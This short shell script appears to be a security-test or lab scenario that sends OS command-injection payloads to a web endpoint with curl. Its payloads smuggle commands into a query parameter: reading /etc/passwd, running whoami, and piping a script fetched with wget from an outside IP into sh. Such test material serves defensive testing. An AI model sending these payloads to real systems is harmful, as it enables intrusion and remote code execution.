# Operating-system commands slipped into parameters.
# packages: curl nginx-light python3
web=(curl -s -G -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" --data-urlencode "q=127.0.0.1; cat /etc/passwd" http://$SERVER/app/tim
from attacker "${web[@]}" --data-urlencode 'q=$(whoami)' http://$SERVER/app/tim
from attacker "${web[@]}" --data-urlencode "q=a|wget http://203.0.113.80/x.sh -O- |sh" http://$SERVER/app/tim
